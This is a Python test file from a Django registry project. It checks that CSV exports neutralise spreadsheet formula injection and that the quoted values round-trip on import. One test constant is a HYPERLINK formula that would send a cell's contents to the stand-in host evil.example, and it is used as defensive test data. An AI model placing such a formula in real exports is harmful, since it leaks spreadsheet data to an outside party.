"""CSV exports neutralise formulas (OWASP "CSV Injection"): a text cell starting with =, +, -, @, a tab
or a carriage return is written with a leading single quote, so that a spreadsheet shows it as text;
plain negative numbers ("-1,000") and a lone "-" stay as they are. One helper
(core.tabular.neutralise_formula, through csv_cell / csv_safe_row) is used by every CSV writer: the
organisation export, the framework indicator and activity files, the statistics downloads and
``bombaram delphi analyse --format csv``; our readers take the quote off, so export → import keeps
the text exactly.
"""

from __future__ import annotations

import csv
import datetime as dt
import io
from pathlib import Path

import pytest
from django.urls import reverse

from bombaram import cli
from bombaram.core import frameworks, tabular
from bombaram.registry.exporter import export_organisations
from bombaram.registry.models import District, Organisation
from bombaram.registry.services import import_organisations
from bombaram.valuation.models import Framework, FrameworkItem, FrameworkVersion
from tests.registry.files import BN_A, utf8_csv

ATTACK = '=HYPERLINK("http://evil.example/?"&A1,"클릭")'


@pytest.mark.parametrize(("text", "written"), [
    ("=1+2", "'=1+2"), ("+82-2-123-4567", "'+82-2-123-4567"), ("-2+3", "'-2+3"), ("@SUM(A1)", "'@SUM(A1)"),
    ("\tcmd", "'\tcmd"), ("\rcmd", "'\rcmd"), ("-1,000", "-1,000"), ("-5.25", "-5.25"), ("-", "-"),
    ("성북구", "성북구"), ("", ""), ("1=1", "1=1"), ("'=quoted", "''=quoted"), ("'", "''"), ("a'b", "a'b"),
])
def test_neutralise_formula(text, written):
    assert tabular.neutralise_formula(text) == written
    assert tabular.restore_formula_text(written) == text


def _cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def test_organisation_export_quotes_formulas_and_imports_back_unchanged(reference, tmp_path):
    rows = [[ATTACK, BN_A, "성북구", "2013-01-15", "@대표", "-1,000 아닌 글"]]
    import_organisations(source=utf8_csv(tmp_path / "in.csv", ["기업명", "사업자등록번호", "자치구", "인증일", "대표자", "법인형태"],
                                         rows), filename="in.csv", designation="certified_se", as_of=dt.date(2014, 1, 31))
    path = tmp_path / "out.csv"
    export_organisations(path)
    cells = [c for row in _cells(path.read_bytes()) for c in row]
    assert "'" + ATTACK in cells and "'@대표" in cells and "'-1,000 아닌 글" in cells
    assert not any(c.startswith(("=", "+", "@")) for c in cells)
    Organisation.objects.all().delete()
    plan = import_organisations(source=path, filename="out.csv", designation=None, as_of=dt.date(2014, 1, 31))
    assert plan.written
    org = Organisation.objects.get()
    assert (org.name, org.representative, org.legal_form) == (ATTACK, "@대표", "-1,000 아닌 글")


def test_framework_csv_quotes_formulas_and_reads_back(reference, client):
    framework = Framework.objects.create(name="틀", slug="f")
    version = FrameworkVersion.objects.create(framework=framework, number=1)
    goal = FrameworkItem.objects.create(version=version, level="goal", code="1", name="+목적")
    activity = FrameworkItem.objects.create(version=version, level="activity", code="1-1", name="활동", parent=goal)
    FrameworkItem.objects.create(version=version, level="indicator", code="1-1.1", name=ATTACK, parent=activity,
                                 unit="-명")
    response = client.get(reverse("framework-export", args=["f", 1]))
    assert response.status_code == 200
    cells = [c for row in _cells(response.content) for c in row]
    assert "'" + ATTACK in cells and "'+목적" in cells and "'-명" in cells
    read, _printed = frameworks.read_framework_csv(response.content, name="틀")
    indicator = read.indicators()[0]
    assert (indicator.name, indicator.unit, read.goals[0].name) == (ATTACK, "-명", "+목적")


def test_statistics_download_quotes_a_formula_in_a_name(reference, client):
    District.objects.filter(code="11290").update(name_ko="=1+2")
    response = client.get(reverse("statistics-download", args=["district-type", "csv"]), {"as_of": "2014-01-31"})
    assert response.status_code == 200
    first_cells = [row[0] for row in _cells(response.content)]
    assert "'=1+2" in first_cells and "=1+2" not in first_cells


def test_delphi_analysis_csv_quotes_a_formula_in_an_item_code(tmp_path, capsys):
    path = tmp_path / "responses.csv"
    path.write_text("round,panellist,group,item_code,item_kind,suitable,score\n"
                    + "".join(f"1,P{i},g,=1+1,indicator,1,6\n" for i in range(3)), encoding="utf-8")
    assert cli.main(["delphi", "analyse", str(path), "--format", "csv"]) == 0
    rows = _cells(capsys.readouterr().out.encode())
    assert rows[1][0] == "'=1+1"


def test_every_csv_writer_goes_through_the_formula_helper():
    """A module that writes CSV (csv.writer, DictWriter) uses csv_safe_row or csv_cell: a new writer
    that forgets it fails here."""
    root = Path(__file__).resolve().parent.parent / "src" / "bombaram"
    writers = [p for p in root.rglob("*.py") if "csv.writer(" in p.read_text(encoding="utf-8")
               or "DictWriter" in p.read_text(encoding="utf-8")]
    assert {p.name for p in writers} >= {"tabular.py", "frameworks.py", "exports.py", "cli.py"}
    for path in writers:
        text = path.read_text(encoding="utf-8")
        assert "DictWriter" not in text, path
        for line in text.splitlines():
            if ".writerow(" in line or ".writerows(" in line:
                assert "csv_safe_row" in line or "csv_cell" in line, f"{path.name}: {line.strip()}"
